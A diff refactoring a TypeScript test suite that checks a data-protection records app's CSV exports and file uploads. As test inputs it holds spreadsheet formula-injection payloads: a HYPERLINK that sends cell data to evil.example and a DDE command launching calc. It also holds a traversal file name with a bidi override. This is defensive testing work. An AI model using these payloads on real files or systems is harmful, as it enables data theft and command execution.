@@ -1,15 +1,15 @@
 import {
   binaryParser,
-  bearer,
   createProcessor,
   createUser,
   setupOrganization,
   TestOrganization,
   TestUser,
+  staff,
+  exportedRecord,
 } from './support/factories';
 import { createTestApp, TestApp } from './support/test-app';
 
-const API = '/api/v1';
 const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
@@ -66,52 +66,27 @@ describe('files and CSV: formula cells and UTF-8 file names', () => {
   beforeAll(async () => {
     t = await createTestApp();
     org = await setupOrganization(t);
-    dpo = await createUser(t, org.admin.accessToken, { roles: ['dpo'] });
-    legal = await createUser(t, org.admin.accessToken, { roles: ['legal'] });
+    ({ dpo, legal } = await staff(t, org, { dpo: ['dpo'], legal: ['legal'] }));
   });
   afterAll(() => t.close());
 
   it('writes no formula into the records CSV: such cells start with an apostrophe, the rest is unchanged', async () => {
     for (const name of [...FORMULAS, 'Payroll']) {
-      const res = await t.http
-        .post(`${API}/processing-activities`)
-        .set(...bearer(dpo.accessToken))
-        .send({
-          name,
-          businessFunction: 'Operations',
-          purposes: ['essential.service'],
-          legalBases: ['art6_1_b'],
-          dataSubjectCategories: ['customer'],
-          dataCategories: ['user.contact.email'],
-          retention: '=2 years',
-          securityMeasures: 'Access control',
-          processorIds: [],
-        });
+      const res = await t.as(dpo.accessToken).post('/processing-activities', {
+        name,
+        businessFunction: 'Operations',
+        purposes: ['essential.service'],
+        legalBases: ['art6_1_b'],
+        dataSubjectCategories: ['customer'],
+        dataCategories: ['user.contact.email'],
+        retention: '=2 years',
+        securityMeasures: 'Access control',
+        processorIds: [],
+      });
       expect({ status: res.status, name: res.body.name }).toEqual({ status: 201, name });
     }
-    const created = await t.http
-      .post(`${API}/records/exports`)
-      .set(...bearer(dpo.accessToken))
-      .send({ format: 'csv' });
-    expect(created.status).toBe(202);
-    const deadline = Date.now() + 30_000;
-    let status = '';
-    while (status !== 'completed') {
-      if (Date.now() > deadline) throw new Error(`export still ${status}`);
-      await t.flushOutbox();
-      await new Promise((r) => setTimeout(r, 100));
-      status = (await t.http.get(`${API}/records/exports/${created.body.id}`).set(...bearer(dpo.accessToken)))
-        .body.status;
-      expect(status).not.toBe('failed');
-    }
-    const file = await t.http
-      .get(`${API}/records/exports/${created.body.id}/file`)
-      .set(...bearer(dpo.accessToken))
-      .buffer(true)
-      .parse(binaryParser);
-    expect(file.status).toBe(200);
     // The records CSV opens with a byte order mark and the controller's header block; the table follows.
-    const text = (file.body as Buffer).toString('utf8');
+    const text = (await exportedRecord(t, dpo.accessToken, 'csv')).toString('utf8');
     expect(text.charCodeAt(0)).toBe(0xfeff);
     const all = parseCsv(text.slice(1));
     const first = all.findIndex((r) => r[0] === 'Processing activity');
@@ -137,10 +112,7 @@ describe('files and CSV: formula cells and UTF-8 file names', () => {
       roles: ['auditor'],
       name: "=cmd|' /C calc'!A0",
     });
-    const csv = await t.http
-      .get(`${API}/users/access-review`)
-      .set(...bearer(org.admin.accessToken))
-      .query({ format: 'csv' });
+    const csv = await t.as(org.admin.accessToken).get('/users/access-review').query({ format: 'csv' });
     expect(csv.status).toBe(200);
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     const rows = parseCsv(csv.text);
@@ -163,15 +135,15 @@ describe('files and CSV: formula cells and UTF-8 file names', () => {
 
   it('stores and serves a UTF-8 upload name as sent, with an RFC 6266 filename*', async () => {
     const processor = await createProcessor(t, legal.accessToken);
-    const incident = await t.http
-      .post(`${API}/processors/${processor.id}/incidents`)
-      .set(...bearer(legal.accessToken))
-      .send({ title: 'Exposed bucket', nature: 'A bucket was publicly readable.' });
+    const incident = await t.as(legal.accessToken).post(`/processors/${processor.id}/incidents`, {
+      title: 'Exposed bucket',
+      nature: 'A bucket was publicly readable.',
+    });
     expect(incident.status).toBe(201);
     const name = 'Prüfbericht_Übersicht (Entwurf) «final».pdf';
-    const uploaded = await t.http
-      .post(`${API}/incidents/${incident.body.id}/documents`)
-      .set(...bearer(legal.accessToken))
+    const uploaded = await t
+      .as(legal.accessToken)
+      .request('post', `/incidents/${incident.body.id}/documents`)
       .attach('file', PDF, { filename: name, contentType: 'application/pdf' });
     expect({
       status: uploaded.status,
@@ -180,12 +152,12 @@ describe('files and CSV: formula cells and UTF-8 file names', () => {
       status: 201,
       names: [name],
     });
-    const read = await t.http.get(`${API}/incidents/${incident.body.id}`).set(...bearer(legal.accessToken));
+    const read = await t.as(legal.accessToken).get(`/incidents/${incident.body.id}`);
     expect(read.body.documents[0].filename).toBe(name);
 
-    const file = await t.http
-      .get(`${API}/incidents/${incident.body.id}/documents/${uploaded.body.documents[0].id}`)
-      .set(...bearer(legal.accessToken))
+    const file = await t
+      .as(legal.accessToken)
+      .get(`/incidents/${incident.body.id}/documents/${uploaded.body.documents[0].id}`)
       .buffer(true)
       .parse(binaryParser);
     expect(file.status).toBe(200);
@@ -200,13 +172,12 @@ describe('files and CSV: formula cells and UTF-8 file names', () => {
 
   it('drops folders, control and bidi-override characters from an upload name', async () => {
     const processor = await createProcessor(t, legal.accessToken);
-    const incident = await t.http
-      .post(`${API}/processors/${processor.id}/incidents`)
-      .set(...bearer(legal.accessToken))
-      .send({ title: 'Another', nature: 'Something happened.' });
-    const uploaded = await t.http
-      .post(`${API}/incidents/${incident.body.id}/documents`)
-      .set(...bearer(legal.accessToken))
+    const incident = await t
+      .as(legal.accessToken)
+      .post(`/processors/${processor.id}/incidents`, { title: 'Another', nature: 'Something happened.' });
+    const uploaded = await t
+      .as(legal.accessToken)
+      .request('post', `/incidents/${incident.body.id}/documents`)
       .attach('file', PDF, { filename: '../../etc/Bericht\u202Efdp.exe', contentType: 'application/pdf' });
     expect({ status: uploaded.status, name: uploaded.body.documents?.[0]?.filename }).toEqual({
       status: 201,
